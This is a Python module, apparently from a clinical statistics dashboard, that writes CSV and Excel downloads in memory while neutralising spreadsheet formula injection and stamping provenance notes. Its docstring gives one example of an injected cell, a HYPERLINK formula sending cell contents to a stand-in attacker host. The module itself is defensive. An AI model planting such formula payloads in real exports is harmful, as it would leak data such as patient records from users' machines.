"""Safe CSV and Excel downloads: numbers stay numbers, formulas never run, all in memory.

Anything the dashboard offers for download may contain text from an uploaded file (patient IDs,
group labels, free-text columns, column names). A spreadsheet program runs a cell that starts
with ``=``, ``+``, ``-`` or ``@`` (after an optional tab or carriage return) as a formula, so a
crafted cell such as ``=HYPERLINK("http://evil.example/?"&A1, "click")`` could leak data or run
commands on the clinician's machine. Only *text* that a spreadsheet would run as a formula is
neutralised (:func:`is_formula_text`): a "-" placeholder, "-1.5" or "a=b" are left alone, and
real numbers, including negative ones and test statistics, are written as numbers.

- CSV: such text gets a leading single quote (OWASP's advice).
- .xlsx: every text cell is written as text (never as a formula) and such text gets Excel's
  quote-prefix cell style instead of a literal apostrophe, so the cell shows exactly the text
  and stays text when someone edits it.

Both writers can stamp the file with where it came from (``notes``: population, n, endpoint,
method, date, app version, data fingerprint): leading ``#`` lines in a CSV, a "Notes" sheet in a
workbook. Both build the file in memory and return bytes: nothing touches the disk.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import math
import re
from collections.abc import Mapping, Sequence

import numpy as np
import pandas as pd

from .errors import CohortError
from .i18n import N_, _
from .tables import FISHER_HEAD, P_HEAD

__all__ = [
    "FORMULA_PREFIXES",
    "NOTES_SHEET",
    "is_formula_text",
    "escape_formula",
    "neutralise_formulas",
    "to_csv_bytes",
    "to_excel_bytes",
    "sheets_to_excel_bytes",
    "table_one_frame",
]

# OWASP "CSV Injection": =, +, -, @, tab (0x09) and carriage return (0x0D).
FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
NOTES_SHEET = N_("Notes")  # shown translated: _(NOTES_SHEET)

# Excel's rules for sheet names: at most 31 characters, none of []:*?/\ .
_SHEET_NAME_MAX = 31
_SHEET_NAME_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")
# A plain decimal number, as a spreadsheet reads it into a number (not a formula).
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?%?")
# Dashes, signs and spaces only ("-", "--", "+/-" is not in it): a placeholder, never a formula.
_ONLY_SIGNS = re.compile(r"[-+\s]*")
# Control characters are illegal in .xlsx XML (tab, LF and CR are allowed).
_ILLEGAL_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_XLSX_MAX_TEXT = 32767  # Excel's limit of characters in one cell


def is_formula_text(value: object) -> bool:
    """True if ``value`` is text that a spreadsheet would run as a formula.

    Parameters
    ----------
    value : object
        One cell. Only ``str`` values can be formula text.

    Returns
    -------
    bool
        True for text starting (after leading tabs, carriage returns and line feeds) with ``=``
        or ``@`` followed by anything, or with ``+`` or ``-`` unless the text is a plain number
        ("-1.5", "+3", "-2e-3", "-12%") or only dashes, signs and spaces (the "-" placeholder).

    Notes
    -----
    OWASP CSV-injection rule narrowed to the cells a spreadsheet actually evaluates, so that
    placeholders and numbers are not prefixed. R's ``write.csv`` has no equivalent.
    """
    if not isinstance(value, str) or not value.startswith(FORMULA_PREFIXES):
        return False
    text = value.lstrip("\t\r\n")
    if not text:
        return False
    if text[0] in "=@":
        return len(text) > 1
    if text[0] in "+-":
        return not (_PLAIN_NUMBER.fullmatch(text) or _ONLY_SIGNS.fullmatch(text))
    return False  # a leading tab or CR before ordinary text


def escape_formula(value: object) -> object:
    """Return ``value`` with a leading single quote if it is text a spreadsheet would execute.

    Parameters
    ----------
    value : object
        One cell. Only ``str`` values are ever changed.

    Returns
    -------
    object
        ``"'" + value`` when :func:`is_formula_text` holds, otherwise ``value`` unchanged
        (numbers, placeholders such as "-" and ordinary text stay as they are).

    Notes
    -----
    OWASP CSV-injection mitigation (prefix with a single quote). R's ``write.csv`` and
    ``openxlsx::write.xlsx`` have no equivalent: they write such cells verbatim.
    """
    return "'" + value if is_formula_text(value) else value


def _is_text_column(col: pd.Series) -> bool:
    return (
        isinstance(col.dtype, pd.CategoricalDtype)
        or pd.api.types.is_object_dtype(col.dtype)
        or pd.api.types.is_string_dtype(col.dtype)
    )


def _escape_text_column(col: pd.Series) -> pd.Series:
    """Escape the formula cells of one column; other cells (numbers in a mixed column) stay."""
    if not _is_text_column(col):
        return col
    values = col.astype(object)
    risky = np.fromiter((is_formula_text(v) for v in values), dtype=bool, count=len(values))
    if not risky.any():
        return col
    out = values.copy()
    out[risky] = "'" + values[risky]
    return out


def _escape_header(c: object) -> object:
    return tuple(escape_formula(x) for x in c) if isinstance(c, tuple) else escape_formula(c)


def neutralise_formulas(df: pd.DataFrame, *, index: bool = False) -> pd.DataFrame:
    """Return a copy of ``df`` whose text cells and column names cannot run as formulas.

    Parameters
    ----------
    df : pandas.DataFrame
        The table to export; not modified.
    index : bool, default False
        Keep the index as leading column(s) (escaped like any other text).

    Returns
    -------
    pandas.DataFrame
        Same shape; numeric, boolean and datetime columns unchanged; text cells for which
        :func:`is_formula_text` holds get a leading ``'``.

    Notes
    -----
    For CSV (which has no cell styles). R: no equivalent.
    """
    out = df.reset_index() if index else df.copy()
    out.columns = out.columns.map(_escape_header)
    for i in range(out.shape[1]):
        out.isetitem(i, _escape_text_column(out.iloc[:, i]))
    return out


def _note_lines(notes: Sequence[str] | None) -> list[str]:
    return [str(n) for n in (notes or ()) if str(n).strip()]


def to_csv_bytes(
    df: pd.DataFrame,
    *,
    index: bool = False,
    encoding: str = "utf-8-sig",
    notes: Sequence[str] | None = None,
) -> bytes:
    """Write ``df`` as CSV bytes, safe to open in Excel or LibreOffice.

    Parameters
    ----------
    df : pandas.DataFrame
        The table to export.
    index : bool, default False
        Write the index as leading column(s).
    encoding : str, default "utf-8-sig"
        The byte-order mark lets Excel recognise UTF-8 (umlauts and Chinese in labels).
    notes : sequence of str, optional
        Where the table came from (population, n, method, date, data fingerprint). Written
        first, one ``# ...`` line each (read back with ``pandas.read_csv(..., comment="#")``
        or by skipping lines that start with ``#``).

    Returns
    -------
    bytes
        Comma-separated with CRLF line ends (RFC 4180), missing values as empty fields. A field
        holding a comma, quote, CR or LF is quoted, so text after a line break inside a cell can
        never start a new row.

    Notes
    -----
    ``pandas.DataFrame.to_csv`` after :func:`neutralise_formulas`; R: ``write.csv`` (which does
    not escape formulas).
    """
    safe = neutralise_formulas(df, index=index)
    # Unquoted, so that ``comment="#"`` skips the whole line (a comma only splits the note
    # across cells in a spreadsheet); line breaks inside a note are folded to spaces.
    head = "".join(f"# {' '.join(line.split())}\r\n" for line in _note_lines(notes))
    text = safe.to_csv(index=False, lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL)
    return (head + text).encode(encoding)


def _sheet_name(name: str) -> str:
    clean = _SHEET_NAME_FORBIDDEN.sub("_", str(name)).strip("'")[:_SHEET_NAME_MAX]
    if not clean.strip():
        raise CohortError(
            _(
                "The sheet name {name} has nothing left that Excel accepts (a sheet name cannot "
                "be empty or only apostrophes and spaces). Use a name with letters or digits."
            ).format(name=repr(name))
        )
    return clean


class _CellWriter:
    """Writes Python/pandas values into an XlsxWriter sheet with the right cell type."""

    def __init__(self, book) -> None:  # an xlsxwriter.Workbook
        self.quoted = book.add_format({"quote_prefix": True})
        self.header = book.add_format({"bold": True, "text_wrap": True, "valign": "top"})
        self.header_quoted = book.add_format(
            {"bold": True, "text_wrap": True, "valign": "top", "quote_prefix": True}
        )
        self.date = book.add_format({"num_format": "yyyy-mm-dd"})
        self.datetime = book.add_format({"num_format": "yyyy-mm-dd hh:mm:ss"})

    def text(self, sheet, row: int, col: int, value: str, *, header: bool = False) -> None:
        value = _ILLEGAL_XML.sub("", value)[:_XLSX_MAX_TEXT]
        risky = is_formula_text(value)
        if header:
            fmt = self.header_quoted if risky else self.header
        else:
            fmt = self.quoted if risky else None
        sheet.write_string(row, col, value, fmt)

    def value(self, sheet, row: int, col: int, value: object) -> None:
        if value is None or value is pd.NaT or value is pd.NA:
            return  # an empty cell
        if isinstance(value, bool | np.bool_):
            sheet.write_boolean(row, col, bool(value))
        elif isinstance(value, int | float | np.integer | np.floating):
            number = float(value)
            if math.isnan(number):
                return
            if math.isinf(number):  # Excel has no infinity: say it in words
                self.text(sheet, row, col, "inf" if number > 0 else "-inf")
            else:
                sheet.write_number(row, col, number)
        elif isinstance(value, pd.Timestamp | dt.datetime):
            stamp = pd.Timestamp(value)
            if stamp.tzinfo is not None:  # Excel has no time zones; keep the wall-clock time
                stamp = stamp.tz_localize(None)
            sheet.write_datetime(row, col, stamp.to_pydatetime(), self.datetime)
        elif isinstance(value, dt.date):
            sheet.write_datetime(row, col, value, self.date)
        elif isinstance(value, str):
            self.text(sheet, row, col, value)
        else:  # intervals, lists, timedeltas, ...: their text
            self.text(sheet, row, col, str(value))


def _column_values(col: pd.Series) -> list[object]:
    values = col.to_numpy(dtype=object)
    values[np.asarray(col.isna())] = None
    return values.tolist()


def _header_text(c: object) -> str:
    return " / ".join(map(str, c)) if isinstance(c, tuple) else str(c)


def _fill_sheet(sheet, cells: _CellWriter, frame: pd.DataFrame) -> None:
    """Header row, then the cells of ``frame`` column by column; header frozen."""
    for j, c in enumerate(frame.columns):
        head = _header_text(c)
        cells.text(sheet, 0, j, head, header=True)
        values = _column_values(frame.iloc[:, j])
        for i, v in enumerate(values, start=1):
            cells.value(sheet, i, j, v)
        longest = max([len(head), *(len(str(v)) for v in values[:500] if v is not None)])
        sheet.set_column(j, j, min(max(8, longest + 2), 60))
    sheet.freeze_panes(1, 0)


def _fill_notes(sheet, cells: _CellWriter, lines: list[str]) -> None:
    sheet.set_column(0, 0, 120)
    cells.text(sheet, 0, 0, _("Where these numbers come from"), header=True)
    for i, line in enumerate(lines, start=1):
        cells.text(sheet, i, 0, line)


def sheets_to_excel_bytes(
    sheets: Mapping[str, pd.DataFrame],
    *,
    index: bool = False,
    notes: Sequence[str] | None = None,
) -> bytes:
    """Write several tables into one .xlsx workbook, one sheet each, in memory.

    Parameters
    ----------
    sheets : Mapping[str, pandas.DataFrame]
        Sheet name -> table, in the order the sheets should appear. Names are shortened to
        31 characters and characters Excel forbids (``[]:*?/\\``) become ``_``.
    index : bool, default False
        Write each index as leading column(s).
    notes : sequence of str, optional
        Where the tables came from; written one line per row on a last sheet "Notes".

    Returns
    -------
    bytes
        The .xlsx file. Numbers (including negative numbers and statistics) are numeric
        cells, dates date cells, missing values empty cells; text is always a text cell, and
        text a spreadsheet would run as a formula carries the quote-prefix style.

    Raises
    ------
    CohortError
        If there is no sheet, or two names coincide after cleaning.

    Notes
    -----
    XlsxWriter with ``in_memory`` (no temporary files, so no patient data on disk) and typed
    ``write_*`` calls; R: ``openxlsx::write.xlsx(list_of_frames)`` (no formula escaping).
    """
    if not sheets:
        raise CohortError(_("There is nothing to export: give at least one table."))
    names = [_sheet_name(n) for n in sheets]
    lines = _note_lines(notes)
    notes_sheet = _(NOTES_SHEET)
    taken = [n.lower() for n in names] + ([notes_sheet.lower()] if lines else [])
    if len(set(taken)) != len(taken):
        raise CohortError(
            (
                _(
                    "The sheet names {names} coincide once shortened to 31 characters (Excel "
                    "ignores case) or with the notes sheet. Give each table a distinct, shorter "
                    "name."
                )
                if lines
                else _(
                    "The sheet names {names} coincide once shortened to 31 characters (Excel "
                    "ignores case). Give each table a distinct, shorter name."
                )
            ).format(names=list(sheets))
        )
    import xlsxwriter  # here, not at import: only an Excel download needs it

    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(
        buffer,
        {
            "in_memory": True,
            "strings_to_formulas": False,
            "strings_to_numbers": False,
            "strings_to_urls": False,
        },
    )
    cells = _CellWriter(book)
    for name, frame in zip(names, sheets.values(), strict=True):
        _fill_sheet(book.add_worksheet(name), cells, frame.reset_index() if index else frame)
    if lines:
        _fill_notes(book.add_worksheet(notes_sheet), cells, lines)
    book.close()
    return buffer.getvalue()


def to_excel_bytes(
    df: pd.DataFrame,
    sheet_name: str = "data",
    *,
    index: bool = False,
    notes: Sequence[str] | None = None,
) -> bytes:
    """Write one table as an .xlsx workbook in memory (plus a "Notes" sheet when given).

    Parameters
    ----------
    df : pandas.DataFrame
        The table to export.
    sheet_name : str, default "data"
        Name of the table's sheet (cleaned as in :func:`sheets_to_excel_bytes`).
    index : bool, default False
        Write the index as leading column(s).
    notes : sequence of str, optional
        Where the table came from (see :func:`sheets_to_excel_bytes`).

    Returns
    -------
    bytes
        The .xlsx file (see :func:`sheets_to_excel_bytes`).

    Notes
    -----
    See :func:`sheets_to_excel_bytes`; R: ``openxlsx::write.xlsx``.
    """
    return sheets_to_excel_bytes({sheet_name: df}, index=index, notes=notes)


def table_one_frame(result, display: pd.DataFrame) -> pd.DataFrame:
    """Table 1 for export: the display table with its test columns as numbers.

    Parameters
    ----------
    result : TableOneResult
        From ``hcc_core.table_one``.
    display : pandas.DataFrame
        ``hcc_core.format_table_one(result)``: one header row per variable (the row carrying
        "Missing") followed by its level rows.

    Returns
    -------
    pandas.DataFrame
        The same rows and text columns; "Statistic", "p", "Fisher's exact p", "SMD" and "Missing"
        are numeric (full precision, empty where there is no value), and "Expected count < 5"
        says "yes" where the display marked the p-value with "*".

    Notes
    -----
    Numbers come from ``result.table`` (one row per variable), never from parsing display text.
    """
    # The display's headers are in the language it was formatted in (the current one).
    missing, fisher = _("Missing"), _(FISHER_HEAD)
    numbers = result.table.drop_duplicates("variable").set_index("variable")
    heads = display[missing].astype(str).str.strip() != ""
    if int(heads.sum()) != len(numbers):
        raise CohortError(
            _(
                "Table 1 for export: the display table has {rows} variable rows but the result "
                "has {n} variables. Export the numeric table instead."
            ).format(rows=int(heads.sum()), n=len(numbers))
        )
    out = display.copy()
    rows = np.flatnonzero(heads.to_numpy())
    low = numbers["low_expected"].fillna(False).astype(bool).to_numpy()
    columns = {
        _("Statistic"): numbers["statistic"],
        P_HEAD: numbers["p_value"],
        fisher: numbers["fisher_p"].where(low),
        _("SMD"): numbers["smd"],
        missing: numbers["missing"],
    }
    for col, values in columns.items():
        filled = np.full(len(out), np.nan)
        filled[rows] = pd.to_numeric(values, errors="coerce").to_numpy(dtype=float)
        out[col] = filled
    flag = np.full(len(out), "", dtype=object)
    flag[rows[low]] = _("yes")
    out.insert(out.columns.get_loc(fisher), _("Expected count < 5"), flag)
    return out
